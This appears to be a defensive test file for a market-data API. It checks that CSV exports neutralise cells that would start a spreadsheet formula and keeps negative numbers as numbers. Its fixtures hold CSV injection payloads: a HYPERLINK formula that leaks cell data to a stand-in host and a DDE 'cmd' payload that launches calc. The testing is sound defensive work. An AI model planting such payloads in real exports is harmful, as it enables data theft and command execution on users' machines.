// format=csv never hands a spreadsheet a formula: text cells that would start one (=, +, -, @, a tab,
// a CR) are written with a leading ' (OWASP's CSV injection advice); numbers stay numbers.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { startTestServer, type TestServer } from '../../helpers/api-server.js';
import { csv, KLINE_HEADER, tempDir, writeSnapshotFolder } from '../../helpers/snapshot-folder.js';

/** Names as an attacker would put them in a snapshot's symbols.csv (the loader trims a leading tab or CR). */
const NAMES: Record<string, string> = {
  sh600001: '=HYPERLINK("http://x.example/?"&A1,"click")',
  sh600002: '+1+2',
  sh600003: "-3+cmd|' /C calc'!A0",
  sh600004: '@SUM(A1:A9)',
  sh600005: 'Plain, with a comma',
};
const symbols = Object.keys(NAMES);

let api: TestServer;
let cleanup: () => Promise<void>;
before(async () => {
  const dir = await tempDir('mdq-csv-');
  cleanup = dir.cleanup;
  const klines = symbols.flatMap((s, i) => [
    `${s},2025-01-02,10,11,9,${10 + i},1000,10000.5,1`,
    `${s},2025-01-03,10,11,-9.5,${10.5 + i},1000,-2.25,1`,
  ]);
  // A symbol may start with '-' ([A-Za-z0-9._-]): its code is text too.
  klines.push('-A1,2025-01-02,1,2,0.5,1.5,10,15,1');
  await writeSnapshotFolder(dir.path, {
    'manifest.json': JSON.stringify({ id: 'csv-injection' }),
    'ashare/symbols.csv': csv(
      'symbol,name',
      ...symbols.map((s) => `${s},"${NAMES[s].replace(/"/g, '""')}"`),
      '-A1,minus',
    ),
    'ashare/klines.csv': csv(KLINE_HEADER, ...klines),
    'macro.csv': csv('indicator,date,key,value', 'gdp,2024-12-31,=EVIL(),1.5', 'gdp,2024-12-31,GDP_GDP,-7'),
  });
  api = await startTestServer({ snapshot: dir.path });
});
after(async () => {
  await api.close();
  await cleanup();
});

/** The CSV answer of `path` as rows of cells (header first). */
async function table(path: string): Promise<string[][]> {
  const r = await api.get(path.includes('?') ? `${path}&format=csv` : `${path}?format=csv`, { key: api.keys.internal });
  assert.equal(r.status, 200, r.text);
  return parse(r.text, { relax_column_count: false }) as string[][];
}

const neutralised = (text: string): string => `'${text}`;

test('symbols: every name that would start a formula is text; others as they are', async () => {
  const rows = await table('/api/v1/ashare/symbols?limit=100');
  const byCode = new Map(rows.slice(1).map(([code, name]) => [code, name]));
  for (const s of symbols.slice(0, 4)) assert.equal(byCode.get(s), neutralised(NAMES[s]), s);
  assert.equal(byCode.get('sh600005'), NAMES.sh600005);
  assert.equal(byCode.get("'-A1"), 'minus', 'a code starting with - is neutralised too');
});

test('detail and batch detail: the name cell is neutralised, numbers are not', async () => {
  const one = await table('/api/v1/ashare/detail/sh600001?fields=name,close,change');
  assert.deepEqual(one[0], ['symbol', 'date', 'name', 'close', 'change']);
  assert.deepEqual(one[1], ['sh600001', '2025-01-03', neutralised(NAMES.sh600001), '10.5', '0.5']);
  const batch = await table(`/api/v1/ashare/detail?symbols=${symbols.join(',')}&fields=name,low`);
  assert.deepEqual(
    batch.slice(1).map((r) => r[2]),
    [...symbols.slice(0, 4).map((s) => neutralised(NAMES[s])), NAMES.sh600005],
  );
  assert.deepEqual(
    batch.slice(1).map((r) => r[3]),
    ['-9.5', '-9.5', '-9.5', '-9.5', '-9.5'],
    'a negative number stays a number',
  );
});

test('screen: names neutralised, negative numbers untouched', async () => {
  const rows = await table('/api/v1/ashare/screen?sort=close&order=asc&fields=close');
  const header = rows[0];
  const name = header.indexOf('name');
  const names = rows.slice(1).map((r) => r[name]);
  assert.deepEqual(names, ['minus', ...symbols.slice(0, 4).map((s) => neutralised(NAMES[s])), NAMES.sh600005]);
});

test('K-lines: a symbol starting with - is text; negative amounts are numbers', async () => {
  const rows = await table('/api/v1/ashare/klines/sh600001?fields=low,amount');
  assert.deepEqual(rows[2], ['sh600001', '2025-01-03', '-9.5', '-2.25', '1']);
  const minus = await table('/api/v1/ashare/klines/-A1');
  assert.equal(minus[1][0], "'-A1");
  const batch = await table('/api/v1/ashare/klines?symbols=-A1,sh600002&fields=low');
  assert.deepEqual(
    batch.slice(1).map((r) => r[0]),
    ["'-A1", 'sh600002', 'sh600002'],
  );
});

test('macro: a series key that would start a formula is a neutralised header; values stay numbers', async () => {
  const rows = await table('/api/v1/macro?indicator=gdp');
  assert.ok(rows[0].includes("'=EVIL()"), `header: ${rows[0].join(',')}`);
  assert.ok(rows[1].includes('-7') && rows[1].includes('1.5'), `row: ${rows[1].join(',')}`);
});
